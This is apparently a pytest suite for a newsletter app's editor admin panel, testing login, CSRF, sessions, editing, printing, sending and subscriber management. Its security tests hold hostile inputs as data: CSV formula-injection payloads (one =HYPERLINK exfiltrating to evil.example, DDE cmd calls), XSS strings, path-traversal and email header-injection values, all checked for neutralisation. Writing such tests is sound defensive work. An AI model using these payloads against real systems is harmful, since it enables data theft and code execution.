"""The editor's app (`masthead serve`, /admin/) in process, through Starlette's TestClient:
login and CSRF, issues and items on disk, print preview, sending, subscribers."""

from __future__ import annotations

import csv
import io
import re
import time
import tomllib
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from lxml import html as lxml_html
from starlette.testclient import TestClient

from conftest import point_smtp_at
from editor_kit import PASSWORD, csrf_of, log_in, png, set_password
from masthead.cli import main
from masthead.content import load_issue, load_publication
from masthead.store import dispose_engines, open_store
from masthead.store import subscriber_list as subs
from masthead.web import create_app
from masthead.web.auth import hash_password, verify_password

ISSUE = "/admin/issues/2020-03"


@pytest.fixture(autouse=True)
def _fresh_engines():
    yield
    dispose_engines()


@pytest.fixture
def root(demo: Path) -> Path:
    set_password(demo)
    return demo


@pytest.fixture
def client(root: Path):
    with TestClient(create_app(root), base_url="https://bulletin.example.org") as c:
        yield c


@pytest.fixture
def editor(client: TestClient) -> TestClient:
    assert log_in(client).status_code == 200
    return client


def csrf(client: TestClient, url: str = "/admin/") -> str:
    return csrf_of(client.get(url).text)


def items_in_toml(root: Path) -> list[str]:
    return tomllib.loads((root / "issues/2020-03/issue.toml").read_text("utf-8"))["items"]


def front_matter(path: Path) -> dict:
    text = path.read_text("utf-8")
    return yaml.safe_load(text.split("---\n")[1])


# ---- login, sessions, CSRF --------------------------------------------------------------


def test_password_hash_round_trip_and_cli() -> None:
    stored = hash_password("s3cret")
    assert stored.startswith("scrypt$") and "s3cret" not in stored
    assert verify_password("s3cret", stored)
    assert not verify_password("s3cret ", stored)
    assert not verify_password("s3cret", "not-a-hash")
    result = CliRunner().invoke(main, ["serve", "--hash-password"], input="pw\npw\n")
    assert result.exit_code == 0, result.output
    line = result.output.strip().splitlines()[-1]
    assert verify_password("pw", re.fullmatch(r'admin_password_hash = "(.+)"', line).group(1))


def test_admin_pages_need_a_login(client: TestClient) -> None:
    page = client.get("/admin/issues/2020-03", follow_redirects=False)
    assert page.status_code == 303
    assert page.headers["location"] == "/admin/login?next=/admin/issues/2020-03"
    assert client.post("/admin/issues/new").status_code == 403
    assert client.get("/admin/subscribers/export.csv", follow_redirects=False).status_code == 303


def test_login_sets_a_strict_session_cookie_and_a_new_token(client: TestClient) -> None:
    login_page = client.get("/admin/login")
    before = csrf_of(login_page.text)
    cookie = login_page.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Path=/admin" in cookie
    assert "Secure" in cookie  # the request came over https
    response = client.post(
        "/admin/login?next=/admin/",
        data={"csrf": before, "password": PASSWORD},
        follow_redirects=False,
    )
    assert response.status_code == 303 and response.headers["location"] == "/admin/"
    assert "HttpOnly" in response.headers["set-cookie"]
    dashboard = client.get("/admin/")
    assert dashboard.status_code == 200
    assert csrf_of(dashboard.text) != before  # the pre-login token is dead
    assert "content-security-policy" in dashboard.headers


def test_logout_ends_the_session_even_for_a_copied_cookie(root: Path) -> None:
    with TestClient(create_app(root), base_url="https://bulletin.example.org") as c:
        log_in(c)
        stolen = c.cookies.get("masthead_admin")
        c.post("/admin/logout", data={"csrf": csrf(c)})
        assert c.get("/admin/", follow_redirects=False).status_code == 303
    with TestClient(create_app(root), base_url="https://bulletin.example.org") as thief:
        thief.cookies.set("masthead_admin", stolen, domain="bulletin.example.org", path="/admin")
        assert thief.get("/admin/", follow_redirects=False).status_code == 303
        assert log_in(thief).url.path == "/admin/"  # a new login works


def test_wrong_password_and_rate_limit(client: TestClient) -> None:
    token = csrf_of(client.get("/admin/login").text)
    codes = [
        client.post("/admin/login", data={"csrf": token, "password": "wrong"}).status_code
        for _ in range(7)
    ]
    assert codes[:5] == [401] * 5 and codes[5:] == [429, 429]
    assert (
        "Too many attempts"
        in client.post("/admin/login", data={"csrf": token, "password": PASSWORD}).text
    )


def test_login_form_needs_its_token(client: TestClient) -> None:
    client.get("/admin/login")
    response = client.post("/admin/login", data={"csrf": "forged", "password": PASSWORD})
    assert response.status_code == 403
    assert client.get("/admin/", follow_redirects=False).status_code == 303


def test_every_post_needs_the_csrf_token(editor: TestClient, root: Path) -> None:
    before = sorted(p.name for p in (root / "issues").iterdir())
    assert editor.post("/admin/issues/new").status_code == 403
    assert editor.post("/admin/issues/new", data={"csrf": "nope"}).status_code == 403
    assert sorted(p.name for p in (root / "issues").iterdir()) == before


def test_without_a_password_the_app_stays_locked(demo: Path) -> None:
    with TestClient(create_app(demo)) as c:
        page = c.get("/admin/login")
        assert page.status_code == 503
        assert "masthead serve --hash-password" in page.text
        assert c.post("/admin/login", data={"password": ""}).status_code == 503


def test_session_cookie_is_not_secure_over_plain_http_on_loopback(root: Path) -> None:
    with TestClient(create_app(root), base_url="http://127.0.0.1") as c:
        assert "Secure" not in c.get("/admin/login").headers["set-cookie"]


# ---- dashboard


def test_dashboard_lists_issues_counts_and_charts(editor: TestClient, root: Path) -> None:
    store = open_store(load_publication(root))
    subs.add(store, "ada@example.org", confirmed=True)
    subs.add(store, "bob@example.org", confirmed=True)
    subs.unsubscribe(store, 2, source="email")
    page = lxml_html.fromstring(editor.get("/admin/").text)
    row = page.xpath("//tr[th/a[@href='/admin/issues/2020-03']]")[0]
    assert "Vol. 3, no. 45" in row.text_content() and "draft" in row.text_content()
    figures = page.xpath("//section[@aria-labelledby='subs-h']//ul[@class='figures']")[0]
    assert "1 active" in " ".join(figures.text_content().split())
    chart = page.xpath("//svg[@role='img']")[0]
    assert "2 joined, 1 unsubscribed, 0 bounced" in chart.get("aria-label")


# ---- issues and items


def test_new_issue_gets_the_next_number(editor: TestClient, root: Path) -> None:
    response = editor.post("/admin/issues/new", data={"csrf": csrf(editor)})
    assert response.status_code == 200
    slug = response.url.path.rsplit("/", 1)[1]
    config = tomllib.loads((root / "issues" / slug / "issue.toml").read_text("utf-8"))
    assert config["number"] == 46
    assert "vol. " in response.text and "no. 46" in response.text


def test_add_item_writes_a_file_and_appends_it_to_the_print_order(
    editor: TestClient, root: Path
) -> None:
    response = editor.post(
        f"{ISSUE}/items",
        data={"csrf": csrf(editor), "title": "Bake sale: June!", "kind": "brief"},
    )
    assert response.status_code == 200
    path = root / "issues/2020-03/bake-sale-june.md"
    assert front_matter(path) == {"title": "Bake sale: June!", "kind": "brief"}
    assert items_in_toml(root)[-1] == "bake-sale-june.md"
    assert "Saved" not in response.text and "Added bake-sale-june.md" in response.text


def test_edit_saves_front_matter_and_body_that_load_back(editor: TestClient, root: Path) -> None:
    page = editor.get(f"{ISSUE}/items/seed-swap").text
    base = re.search(r'name="hash" value="([^"]+)"', page).group(1)
    response = editor.post(
        f"{ISSUE}/items/seed-swap",
        data={
            "csrf": csrf_of(page),
            "hash": base,
            "title": "Seed swap: bring jars",
            "kind": "reprint",
            "authors": "Ada Lovelace\nCharles Babbage\n",
            "source": "The Valley Post",
            "source_url": "https://valley.example.org/seeds",
            "published": "2020-02-11",
            "summary": "Seeds, swapped.",
            "body": "First *paragraph*.\r\n\r\nSecond <b>one</b>.",
        },
    )
    assert response.status_code == 200 and "Saved seed-swap.md" in response.text
    item = next(
        i for i in load_issue(load_publication(root), "2020-03").items if i.slug == "seed-swap"
    )
    assert item.meta.title == "Seed swap: bring jars" and item.meta.kind == "reprint"
    assert item.meta.authors == ["Ada Lovelace", "Charles Babbage"]
    assert str(item.meta.published) == "2020-02-11"
    text = (root / "issues/2020-03/seed-swap.md").read_text("utf-8")
    assert text.startswith("---\ntitle: 'Seed swap: bring jars'\nkind: reprint\n")
    assert text.endswith("First *paragraph*.\n\nSecond <b>one</b>.\n")


def test_invalid_fields_are_refused_and_the_file_kept(editor: TestClient, root: Path) -> None:
    path = root / "issues/2020-03/seed-swap.md"
    before = path.read_bytes()
    page = editor.get(f"{ISSUE}/items/seed-swap").text
    base = re.search(r'name="hash" value="([^"]+)"', page).group(1)
    response = editor.post(
        f"{ISSUE}/items/seed-swap",
        data={
            "csrf": csrf_of(page),
            "hash": base,
            "title": "X",
            "source_url": "ftp://x",
            "body": "b",
        },
    )
    assert response.status_code == 400
    assert "source_url must be an http:// or https:// address" in response.text
    assert path.read_bytes() == before


def test_two_tabs_saving_the_same_item_do_not_lose_a_change(editor: TestClient, root: Path) -> None:
    page = editor.get(f"{ISSUE}/items/seed-swap").text
    token = csrf_of(page)
    base = re.search(r'name="hash" value="([^"]+)"', page).group(1)
    first = {"csrf": token, "hash": base, "title": "Seed swap", "body": "Tab one's text."}
    second = {"csrf": token, "hash": base, "title": "Seed swap", "body": "Tab two's text."}
    assert editor.post(f"{ISSUE}/items/seed-swap", data=first).status_code == 200
    clash = editor.post(f"{ISSUE}/items/seed-swap", data=second)
    assert clash.status_code == 409
    assert "was changed by someone else" in clash.text
    doc = lxml_html.fromstring(clash.text)
    assert "Tab one's text." in doc.xpath("//pre[@class='theirs']")[0].text_content()
    assert "Tab two's text." in doc.xpath("//textarea[@name='body']")[0].text_content()
    file_text = (root / "issues/2020-03/seed-swap.md").read_text("utf-8")
    assert "Tab one's text." in file_text and "Tab two's text." not in file_text
    # The conflict page carries the new hash: saving again (after merging) goes through.
    new_base = doc.xpath("//form[@id='item-form']//input[@name='hash']")[0].get("value")
    merged = {**second, "hash": new_base, "body": "Tab one's text. Tab two's text."}
    assert editor.post(f"{ISSUE}/items/seed-swap", data=merged).status_code == 200
    assert "Tab one's text. Tab two's text." in (root / "issues/2020-03/seed-swap.md").read_text()


def test_a_text_editor_change_is_detected_too(editor: TestClient, root: Path) -> None:
    page = editor.get(f"{ISSUE}/items/lead").text
    base = re.search(r'name="hash" value="([^"]+)"', page).group(1)
    path = root / "issues/2020-03/lead.md"
    path.write_text(path.read_text("utf-8") + "\nAdded in vim.\n", "utf-8")
    response = editor.post(
        f"{ISSUE}/items/lead",
        data={"csrf": csrf_of(page), "hash": base, "title": "Lead", "body": "Mine"},
    )
    assert response.status_code == 409
    assert "Added in vim." in path.read_text("utf-8")


def test_reorder_keeps_other_keys_and_comments(editor: TestClient, root: Path) -> None:
    toml = root / "issues/2020-03/issue.toml"
    toml.write_text("# the March issue\n" + toml.read_text("utf-8"), "utf-8")
    order = items_in_toml(root)
    token = csrf(editor, ISSUE)
    response = editor.post(f"{ISSUE}/order", data={"csrf": token, "items": list(reversed(order))})
    assert response.status_code == 200
    assert items_in_toml(root) == list(reversed(order))
    text = toml.read_text("utf-8")
    assert text.startswith("# the March issue\nvolume = 3\nnumber = 45\ndate = 2020-03-01\n")
    # Keyboard: the Up button of the second item
    editor.post(f"{ISSUE}/move", data={"csrf": token, "name": order[-2], "direction": "up"})
    assert items_in_toml(root)[:2] == [order[-2], order[-1]]
    # From script: JSON answer
    answer = editor.post(
        f"{ISSUE}/move",
        data={"name": order[-2], "direction": "down"},
        headers={"X-CSRF-Token": token},
    )
    assert answer.json()["items"][:2] == [order[-1], order[-2]]
    # A list that is not the issue's items exactly is refused
    bad = editor.post(f"{ISSUE}/order", data={"csrf": token, "items": order[:-1]})
    assert bad.status_code == 400 and "reload the page" in bad.text
    assert load_issue(load_publication(root), "2020-03").items[0].slug == order[-1].removesuffix(
        ".md"
    )


def test_delete_moves_to_trash_and_undo_restores(editor: TestClient, root: Path) -> None:
    folder = root / "issues/2020-03"
    order = items_in_toml(root)
    token = csrf(editor, ISSUE)
    response = editor.post(f"{ISSUE}/items/river-report/delete", data={"csrf": token})
    assert not (folder / "river-report.md").exists()
    assert "river-report.md" not in items_in_toml(root)
    trashed = list((folder / ".trash").glob("*/river-report.md"))
    assert len(trashed) == 1
    assert load_issue(load_publication(root), "2020-03")  # still loads without it
    undo = lxml_html.fromstring(response.text).xpath("//form[contains(@action,'/restore')]")[0]
    trash_id = undo.xpath(".//input[@name='trash']")[0].get("value")
    editor.post(f"{ISSUE}/restore", data={"csrf": token, "trash": trash_id})
    assert (folder / "river-report.md").exists()
    assert items_in_toml(root) == order
    bad = editor.post(f"{ISSUE}/restore", data={"csrf": token, "trash": "../../etc"})
    assert bad.status_code == 400


def test_image_upload_checks_content_and_sets_the_lead_image(
    editor: TestClient, root: Path
) -> None:
    page = editor.get(f"{ISSUE}/items/library-hours").text
    token = csrf_of(page)
    base = re.search(r'name="hash" value="([^"]+)"', page).group(1)
    url = f"{ISSUE}/items/library-hours/image"
    fake = editor.post(
        url,
        data={"csrf": token, "hash": base, "alt": "x"},
        files={"image": ("photo.png", b"<svg onload=alert(1)>", "image/png")},
    )
    assert fake.status_code == 400 and "not a PNG, JPEG, GIF or WebP" in fake.text
    no_alt = editor.post(
        url,
        data={"csrf": token, "hash": base, "alt": " "},
        files={"image": ("photo.png", png(), "image/png")},
    )
    assert no_alt.status_code == 400 and "alternative text" in no_alt.text
    ok = editor.post(
        url,
        data={"csrf": token, "hash": base, "alt": "The reading room", "caption": "Open late"},
        files={"image": ("whatever.bin", png(), "application/octet-stream")},
    )
    assert ok.status_code == 200
    meta = front_matter(root / "issues/2020-03/library-hours.md")
    assert meta["image"] == "library-hours-image.png"
    assert (meta["image_alt"], meta["caption"]) == ("The reading room", "Open late")
    assert (root / "issues/2020-03/library-hours-image.png").read_bytes() == png()
    served = editor.get(f"{ISSUE}/files/library-hours-image.png")
    assert served.status_code == 200 and served.content == png()
    assert editor.get(f"{ISSUE}/files/..%2Fissue.toml").status_code == 404
    assert editor.get(f"{ISSUE}/files/issue.toml").status_code == 404


def test_clip_takes_web_addresses_only_and_not_the_servers_own_network(
    editor: TestClient, root: Path
) -> None:
    from http_pages import PageServer

    token = csrf(editor, ISSUE)
    before = sorted(p.name for p in (root / "issues/2020-03").iterdir())
    local_file = editor.post(f"{ISSUE}/clip", data={"csrf": token, "url": "/etc/hostname"})
    assert local_file.status_code == 400 and "is not a web address" in local_file.text
    with PageServer() as server:
        url = server.page("/a", "<html><body><article><p>Hi</p></article></body></html>")
        private = editor.post(f"{ISSUE}/clip", data={"csrf": token, "url": url})
        assert server.paths_seen() == []
    assert private.status_code == 400
    assert sorted(p.name for p in (root / "issues/2020-03").iterdir()) == before


def test_markdown_preview_escapes_everything(editor: TestClient) -> None:
    token = csrf(editor)
    answer = editor.post(
        "/admin/markdown-preview",
        data={
            "body": "**bold** <script>alert(1)</script> [x](javascript:alert(1))",
            "slug": "2020-03",
        },
        headers={"X-CSRF-Token": token},
    )
    assert "<strong>bold</strong>" in answer.text
    assert "<script>" not in answer.text and "&lt;script&gt;" in answer.text
    assert "javascript:" not in answer.text.replace("[x](javascript:alert(1))", "")


# ---- print preview


def test_print_preview_follows_a_growing_item(editor: TestClient, root: Path) -> None:
    before = editor.get(f"{ISSUE}/print.json").json()
    assert before["error"] is None and before["page_count"] >= 2
    pages_before = {i["slug"]: (i["first"], i["last"]) for i in before["items"]}
    first_png = editor.get(f"{ISSUE}/print/{before['fingerprint']}/1.png")
    assert first_png.headers["content-type"] == "image/png"
    assert first_png.content.startswith(b"\x89PNG")
    lead = root / "issues/2020-03/lead.md"
    text = lead.read_text("utf-8")
    lead.write_text(text + "\n\n" + "\n\n".join(["A long added paragraph. " * 40] * 12), "utf-8")
    after = editor.get(f"{ISSUE}/print.json").json()
    assert after["fingerprint"] != before["fingerprint"]
    pages_after = {i["slug"]: (i["first"], i["last"]) for i in after["items"]}
    assert pages_after["seed-swap"][0] > pages_before["seed-swap"][0]
    assert after["page_count"] > before["page_count"]
    page = editor.get(f"{ISSUE}/print").text
    doc = lxml_html.fromstring(page)
    assert len(doc.xpath("//div[@id='pages']/a/img")) == after["page_count"]
    stale = editor.get(f"{ISSUE}/print/{before['fingerprint']}/1.png")
    assert stale.status_code == 404


def test_print_preview_reports_a_broken_item(editor: TestClient, root: Path) -> None:
    (root / "issues/2020-03/seed-swap.md").write_text("no front matter", "utf-8")
    data = editor.get(f"{ISSUE}/print.json").json()
    assert "no front matter" in data["error"]


def test_pdf_download(editor: TestClient) -> None:
    pdf = editor.get(f"{ISSUE}/print.pdf")
    assert pdf.headers["content-type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")


# ---- sending


def test_test_email_and_real_send_with_progress(
    editor: TestClient, root: Path, confirm_sink
) -> None:
    point_smtp_at(root, confirm_sink.port)
    send_page = editor.get(f"{ISSUE}/send")
    assert "build them first" in send_page.text
    token = csrf_of(send_page.text)
    editor.post(f"{ISSUE}/build", data={"csrf": token, "back": f"{ISSUE}/send"})
    response = editor.post(f"{ISSUE}/send/test", data={"csrf": token, "address": "me@example.org"})
    assert "Test email sent to me@example.org" in response.text
    assert [r for _, r, _ in confirm_sink.received] == [["me@example.org"]]
    store = open_store(load_publication(root))
    for n in range(3):
        subs.add(store, f"reader{n}@example.org", confirmed=True)
    page = editor.get(f"{ISSUE}/send").text
    assert "to <strong>3</strong> active subscriber(s)" in page
    unconfirmed = editor.post(f"{ISSUE}/send/start", data={"csrf": token})
    assert unconfirmed.status_code == 400 and len(confirm_sink.received) == 1
    editor.post(f"{ISSUE}/send/start", data={"csrf": token, "confirm": "yes"})
    deadline = time.monotonic() + 60
    while True:
        status = editor.get(f"{ISSUE}/send.json").json()
        if not status["running"]:
            break
        assert time.monotonic() < deadline, status
        time.sleep(0.2)
    assert status["exit_code"] == 0, status["output"]
    assert (status["sent"], status["total"], status["complete"]) == (3, 3, True)
    received = sorted(r[0] for _, r, _ in confirm_sink.received[1:])
    assert received == [f"reader{n}@example.org" for n in range(3)]
    final = editor.get(f"{ISSUE}/send").text
    assert "Finished" in final
    dashboard = lxml_html.fromstring(editor.get("/admin/").text)
    row = dashboard.xpath("//tr[th/a[@href='/admin/issues/2020-03']]")[0]
    assert "sent" in row.text_content() and "3 sent" in row.text_content()
    assert "Delivery per issue. 2020-03: 3 sent" in dashboard.xpath("//svg")[-1].get("aria-label")


def test_pause_marks_the_send_paused(editor: TestClient, root: Path) -> None:
    from masthead.deliver import create_send, send_state

    store = open_store(load_publication(root))
    subs.add(store, "reader@example.org", confirmed=True)
    create_send(store, "2020-03")
    token = csrf(editor)
    editor.post(f"{ISSUE}/send/pause", data={"csrf": token})
    assert send_state(store, "2020-03").paused
    assert editor.get(f"{ISSUE}/send.json").json()["paused"] is True
    page = editor.get(f"{ISSUE}/send").text
    assert "Paused." in page and "Resume sending" in page


def test_unknown_issue_and_item_are_404(editor: TestClient) -> None:
    assert editor.get("/admin/issues/1999-01").status_code == 404
    assert editor.get(f"{ISSUE}/items/nothing-here").status_code == 404
    assert editor.get(f"{ISSUE}/items/..%2F..%2Fmasthead").status_code in (400, 404)


# ---- subscribers


def test_subscribers_add_search_import_export_suppress(editor: TestClient, root: Path) -> None:
    token = csrf(editor, "/admin/subscribers")
    editor.post(
        "/admin/subscribers/add",
        data={"csrf": token, "email": "ada@example.org", "name": "Ada", "confirmed": "yes"},
    )
    csv_text = "email,name\nbob@example.org,Bob\nnot-an-address,X\nada@example.org,Ada again\n"
    report = editor.post(
        "/admin/subscribers/import",
        data={"csrf": token, "confirmed": "yes"},
        files={"file": ("list.csv", csv_text.encode(), "text/csv")},
    )
    doc = lxml_html.fromstring(report.text)
    rows = [
        [c.text_content() for c in tr.xpath("td")]
        for tr in doc.xpath("//section[@class='report']//tbody/tr")
    ]
    assert [r[:2] for r in rows] == [["3", "not-an-address"], ["4", "ada@example.org"]]
    assert "Imported 1 address(es); 2 row(s) skipped." in report.text
    found = editor.get("/admin/subscribers?q=BOB").text
    assert "bob@example.org" in found and "ada@example.org" not in found
    export = editor.get("/admin/subscribers/export.csv")
    assert export.headers["content-type"].startswith("text/csv")
    assert export.text.splitlines()[0].startswith("email,name,language,status")
    assert len(export.text.splitlines()) == 3
    editor.post(
        "/admin/subscribers/suppress",
        data={"csrf": token, "email": "bob@example.org", "reason": "complaint"},
    )
    store = open_store(load_publication(root))
    bob = next(s for s in subs.iter_subscribers(store) if s.email == "bob@example.org")
    assert bob.suppressed == "complaint"
    detail = lxml_html.fromstring(editor.get(f"/admin/subscribers/{bob.id}").text)
    actions = [tr.xpath("td")[1].text_content() for tr in detail.xpath("//tbody/tr")]
    assert actions == ["import", "complaint"]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",  # cleaned to "=1+1" by the form: still a formula
        "\r=1+1",
    ],
)
def test_a_formula_signed_up_on_the_public_form_is_text_in_the_admin_export(
    root: Path, confirm_sink, name: str
) -> None:
    point_smtp_at(root, confirm_sink.port)
    with TestClient(create_app(root), base_url="https://bulletin.example.org") as c:
        signed_up = c.post("/subscribe", data={"email": "mallory@example.net", "name": name})
        assert signed_up.status_code == 200
        assert log_in(c).status_code == 200
        export = c.get("/admin/subscribers/export.csv")
    (row,) = [r for r in csv.DictReader(io.StringIO(export.text)) if r["email"].endswith("net")]
    assert row["name"] == "'" + name.strip()
    for cell in row.values():
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row


def test_admin_import_lists_an_oversized_field_and_every_other_bad_row(
    editor: TestClient, root: Path
) -> None:
    huge = "x" * 200_000  # over the csv module's 131,072-character field limit
    csv_text = (
        f"email,name\nada@example.org,Ada\nbob@example.org,{huge}\n"
        f'carol@example.org,"{huge}"\nnot-an-address,X\ndave@example.org,{"d" * 5000}\n'
        "erin@example.org,Erin\n"
    )
    report = editor.post(
        "/admin/subscribers/import",
        data={"csrf": csrf(editor, "/admin/subscribers"), "confirmed": "yes"},
        files={"file": ("list.csv", csv_text.encode(), "text/csv")},
    )
    assert report.status_code == 200
    doc = lxml_html.fromstring(report.text)
    rows = [
        [c.text_content() for c in tr.xpath("td")]
        for tr in doc.xpath("//section[@class='report']//tbody/tr")
    ]
    assert [r[0] for r in rows] == ["3", "4", "5", "6"]
    assert "longer than 131,072 characters" in rows[0][2] and rows[1][2] == rows[0][2]
    assert "the name is 5,000 characters long" in rows[3][2]
    assert "Imported 2 address(es); 4 row(s) skipped." in report.text
    store = open_store(load_publication(root))
    assert sorted(s.email for s in subs.iter_subscribers(store)) == [
        "ada@example.org",
        "erin@example.org",
    ]


def test_admin_add_refuses_a_long_name_and_cleans_control_characters(
    editor: TestClient, root: Path
) -> None:
    token = csrf(editor, "/admin/subscribers")
    refused = editor.post(
        "/admin/subscribers/add",
        data={"csrf": token, "email": "ada@example.org", "name": "a" * 10_000, "confirmed": "yes"},
    )
    assert refused.status_code == 400
    assert "the name is 10,000 characters long" in refused.text
    for i, name in enumerate(["Eve\r\nBcc: evil@example.net", "Eve\x1b[2J", "Eve\u2028X"]):
        added = editor.post(
            "/admin/subscribers/add",
            data={"csrf": token, "email": f"e{i}@example.org", "name": name, "confirmed": "yes"},
        )
        assert added.status_code == 200
    store = open_store(load_publication(root))
    names = [s.name for s in subs.iter_subscribers(store)]
    assert names == ["Eve Bcc: evil@example.net", "Eve [2J", "Eve X"]


def test_public_endpoints_still_served(client: TestClient) -> None:
    assert client.get("/healthz").text == "ok"
    assert client.get("/subscribe").status_code == 200
